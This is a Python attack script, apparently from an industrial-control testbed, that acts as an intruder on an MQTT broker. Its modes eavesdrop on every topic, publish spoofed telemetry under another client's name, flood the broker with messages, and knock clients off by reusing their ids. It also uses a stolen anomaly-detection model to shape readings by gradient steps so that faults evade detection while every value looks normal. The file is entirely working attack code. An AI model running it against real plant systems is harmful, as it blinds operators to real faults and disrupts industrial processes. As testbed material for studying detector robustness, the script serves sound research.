"""What an intruder does with a broker: listens to everything, publishes in another's name, throws others out.

    attack_mqtt.py BROKER SECONDS listen | spoof FACTOR | shape MODEL | flood | oust CLIENT [--id CLIENT]

`shape` publishes readings moved a little, all within their usual range, along the gradient of a stolen model, so
that the score falls while every reading looks normal.
"""

import json
from pathlib import Path

import numpy as np
from control import Reality
from messages import TELEMETRY, arguments, client, leave, reading
from model import Model
from plantclock import Ticker, wait
from process import FEATURES

STEP = 0.9  # of a feature's standard deviation in training

parser = arguments(__doc__)
parser.add_argument("what", choices=("listen", "spoof", "shape", "flood", "oust"))
parser.add_argument("more", nargs="?", default="1")
options = parser.parse_args()


def shaped(model: Model, values: dict[str, float]) -> dict[str, float]:
    """One step of the fast gradient sign method, by differences."""
    row = np.array([values[name] for name in FEATURES])
    scale = model.tensors["scale"]
    slope = [model.score(row + scale * 0.05 * unit)[0] - model.score(row)[0] for unit in np.eye(len(FEATURES))]
    moved = row - STEP * scale * np.sign(slope)
    return dict(zip(FEATURES, (float(value) for value in moved), strict=True))


def main() -> None:
    if options.what == "oust":
        options.id = options.more
        for _ in Ticker(options.period, options.seconds):
            other = client(options, "intruder")
            wait(0.3)
            leave(other)
        return
    other = client(options, "node-red-7")
    line = Reality()
    if options.what == "listen":
        other.subscribe([("#", 0), ("$SYS/#", 0)])
        wait(options.seconds)
    model = Model.load(Path(options.more)) if options.what == "shape" else None
    for _ in Ticker(options.period, options.seconds) if options.what != "listen" else ():
        values = line.read()
        if options.what == "spoof":
            values["vibration"] *= float(options.more)
        elif model:
            values |= shaped(model, values)
        for _ in range(50 if options.what == "flood" else 1):
            other.publish(TELEMETRY, reading(values))
        if options.what == "flood":
            other.publish(TELEMETRY, json.dumps({"line": "line1", "blob": "x" * 4000}))
    leave(other)


main()
